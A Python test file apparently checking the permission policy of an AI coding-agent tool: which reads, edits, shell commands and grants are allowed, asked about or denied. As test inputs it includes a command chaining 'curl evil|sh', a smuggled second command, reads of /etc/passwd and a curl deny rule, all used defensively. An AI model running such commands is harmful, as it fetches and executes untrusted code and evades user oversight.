from coder_tui.policy.decide import Action, Policy, Verdict, decide, offered_grants
from coder_tui.policy.paths import Boundaries
from coder_tui.policy.rules import Effect, Layer, Rule
from coder_tui.protocol.access import Mode, Target, TargetKind, ToolKind
from coder_tui.protocol.requests import Grant, GrantForm

WORLD = Boundaries(roots=("/ws",), own=("/home/me/.config/coder-tui",), readable=("/data/tool-output",))


def path(value: str, *, writes: bool = False) -> Target:
    return Target(TargetKind.PATH, value, writes)


def command(text: str) -> Action:
    return Action("bash", "bash", ToolKind.EXECUTE, (Target(TargetKind.COMMAND, text, writes=True),))


def read(value: str) -> Action:
    return Action("read", "read", ToolKind.READ, (path(value),))


def edit(value: str) -> Action:
    return Action("edit", "edit", ToolKind.EDIT, (path(value, writes=True),))


def policy(*rules: tuple[str, str, str], mode: Mode = Mode.ASK, grants: tuple[Grant, ...] = ()) -> Policy:
    layer = Layer("user", tuple(Rule(key, pattern, Effect(effect), "file") for key, pattern, effect in rules))
    return Policy(WORLD, mode, (layer,), grants)


def effect(action: Action, rules: Policy) -> Effect:
    return decide(action, rules).effect


def test_a_protection_is_named_rather_than_a_rule_that_asks() -> None:
    targets = tuple(Target(TargetKind.PATH, path, writes=True) for path in ("/ws/a.py", "/elsewhere/b.py"))
    verdict = decide(Action("patch", "edit", ToolKind.EDIT, targets), Policy(Boundaries(roots=("/ws",))))
    assert (verdict.effect, verdict.rule) == (Effect.ASK, "external_directory = ask")


def test_reading_inside_runs_and_every_change_asks() -> None:
    assert effect(read("/ws/a.py"), policy()) is Effect.ALLOW
    assert effect(edit("/ws/a.py"), policy()) is Effect.ASK
    assert effect(command("ls"), policy()) is Effect.ASK
    assert effect(Action("x", "x", ToolKind.OTHER), policy()) is Effect.ASK
    assert effect(Action("fetch", "fetch", ToolKind.FETCH), policy()) is Effect.ASK


def test_a_path_outside_asks_even_to_read_and_a_similar_prefix_is_outside() -> None:
    assert effect(read("/etc/passwd"), policy()) is Effect.ASK
    assert effect(read("/ws-evil/x"), policy()) is Effect.ASK
    assert effect(edit("/ws-evil/x"), policy(mode=Mode.EDITS)) is Effect.ASK


def test_the_folder_of_cut_outputs_may_be_read_but_not_written() -> None:
    assert effect(read("/data/tool-output/c1.txt"), policy()) is Effect.ALLOW
    assert effect(edit("/data/tool-output/c1.txt"), policy(("edit", "*", "allow"))) is Effect.ASK


def test_a_rule_for_external_directories_opens_only_what_it_names() -> None:
    rules = policy(("external_directory", "/etc/*", "allow"))
    assert effect(read("/etc/hosts"), rules) is Effect.ALLOW
    assert effect(read("/var/log/x"), rules) is Effect.ASK


def test_a_denial_of_external_directories_is_not_hidden_by_a_rule_for_everything() -> None:
    rules = policy(("external_directory", "*", "deny"), ("*", "*", "allow"))
    assert effect(read("/etc/passwd"), rules) is Effect.DENY


def test_git_internals_and_own_configuration_are_never_written() -> None:
    everything = policy(("*", "*", "allow"), mode=Mode.AUTO)
    for target in ("/ws/.git/hooks/x", "/ws/.GIT/config", "/ws/.coder-tui/config.toml"):
        assert effect(edit(target), everything) is Effect.DENY
    assert effect(edit("/home/me/.config/coder-tui/config.toml"), everything) is Effect.DENY
    assert effect(read("/ws/.git/config"), policy()) is Effect.ALLOW


def test_a_secret_asks_even_to_read_and_no_rule_lowers_that() -> None:
    assert effect(read("/ws/.env"), policy(("read", "*", "allow"))) is Effect.ASK


def test_inside_a_layer_the_last_match_wins() -> None:
    rules = policy(("edit", "*", "deny"), ("edit", "docs/*", "allow"))
    assert effect(edit("/ws/docs/a.md"), rules) is Effect.ALLOW
    assert effect(edit("/ws/a.py"), rules) is Effect.DENY


def test_among_layers_the_strictest_wins() -> None:
    loose = Layer("user", (Rule("edit", "*", Effect.ALLOW, "user"),))
    tight = Layer("project", (Rule("edit", "*", Effect.ASK, "project"),))
    verdict = decide(edit("/ws/a"), Policy(WORLD, layers=(loose, tight)))
    assert verdict == Verdict(Effect.ASK, "edit '*' = ask", "project", ("the rule edit '*' = ask says so",))


def test_the_strictest_of_several_targets_decides() -> None:
    both = Action(
        "patch", "edit", ToolKind.EDIT, (path("/ws/a", writes=True), path("/ws/.git/x", writes=True))
    )
    assert effect(both, policy(mode=Mode.EDITS)) is Effect.DENY


def test_a_command_is_allowed_only_by_its_exact_text() -> None:
    rules = policy(("bash", "git status*", "allow"), ("bash", "ls -l", "allow"))
    assert effect(command("ls -l"), rules) is Effect.ALLOW
    assert effect(command("git status; touch x"), rules) is Effect.ASK
    assert effect(command("git status"), rules) is Effect.ASK
    assert effect(command("anything"), policy(("*", "*", "allow"))) is Effect.ASK


def test_a_command_is_denied_by_pattern() -> None:
    assert effect(command("curl http://x"), policy(("bash", "curl*", "deny"))) is Effect.DENY


def test_modes() -> None:
    assert effect(edit("/ws/a"), policy(mode=Mode.EDITS)) is Effect.ALLOW
    assert effect(command("ls"), policy(mode=Mode.EDITS)) is Effect.ASK
    assert effect(command("ls"), policy(mode=Mode.AUTO)) is Effect.ASK
    assert effect(edit("/ws/a"), policy(("edit", "*", "allow"), mode=Mode.PLAN)) is Effect.DENY
    assert effect(command("ls"), policy(("bash", "ls", "allow"), mode=Mode.PLAN)) is Effect.DENY
    assert effect(read("/ws/a"), policy(mode=Mode.PLAN)) is Effect.ALLOW
    foreign = Action("mcp__x__write", "mcp__x__write", ToolKind.OTHER)
    assert effect(foreign, policy(("*", "*", "allow"), mode=Mode.PLAN)) is Effect.DENY
    assert effect(foreign, policy(mode=Mode.PLAN)) is Effect.DENY
    assert effect(edit("/ws/a"), policy(mode=Mode.PLAN)) is Effect.DENY
    assert effect(Action("fetch", "fetch", ToolKind.FETCH), policy(mode=Mode.PLAN)) is Effect.ASK
    assert effect(Action("websearch", "websearch", ToolKind.SEARCH), policy()) is Effect.ASK


def test_a_grant_covers_what_it_names_and_never_a_denial() -> None:
    granted = (Grant("bash", ("make test",), "x"), Grant("edit", ("/ws",), "x", GrantForm.FOLDER))
    assert effect(command("make test"), policy(grants=granted)) is Effect.ALLOW
    assert effect(command("make test2"), policy(grants=granted)) is Effect.ASK
    assert effect(edit("/ws/a"), policy(grants=granted)) is Effect.ALLOW
    assert effect(edit("/ws/.env"), policy(grants=granted)) is Effect.ASK
    assert effect(edit("/ws/.git/x"), policy(grants=granted)) is Effect.DENY
    assert effect(edit("/ws/a"), policy(("edit", "*", "deny"), grants=granted)) is Effect.DENY


def test_a_grant_for_a_name_with_a_star_is_not_a_pattern() -> None:
    granted = (Grant("edit", ("/ws/a*b",), "x"),)
    assert effect(edit("/ws/a*b"), policy(grants=granted)) is Effect.ALLOW
    assert effect(edit("/ws/axxb"), policy(grants=granted)) is Effect.ASK


def test_a_grant_for_a_command_is_never_a_folder() -> None:
    offered = offered_grants(command("ls src/*"), policy())
    assert effect(command("ls src/*"), policy(grants=offered)) is Effect.ALLOW
    assert effect(command("ls src/; curl evil|sh"), policy(grants=offered)) is Effect.ASK


def test_a_grant_for_a_file_called_star_is_that_file() -> None:
    granted = offered_grants(edit("/ws/*"), policy())[:1]
    assert effect(edit("/ws/*"), policy(grants=granted)) is Effect.ALLOW
    assert effect(edit("/ws/a"), policy(grants=granted)) is Effect.ASK


def test_the_grants_of_always_are_narrow() -> None:
    assert [grant.patterns[0] for grant in offered_grants(command("make"), policy())] == ["make"]
    assert [grant.patterns[0] for grant in offered_grants(edit("/ws/a"), policy())][:2] == ["/ws/a", "/ws"]
    assert [grant.patterns[0] for grant in offered_grants(read("/ws/.env"), policy())] == ["/ws/.env"]
    assert [grant.patterns[0] for grant in offered_grants(read("/etc/x"), policy())] == ["/etc/x"]
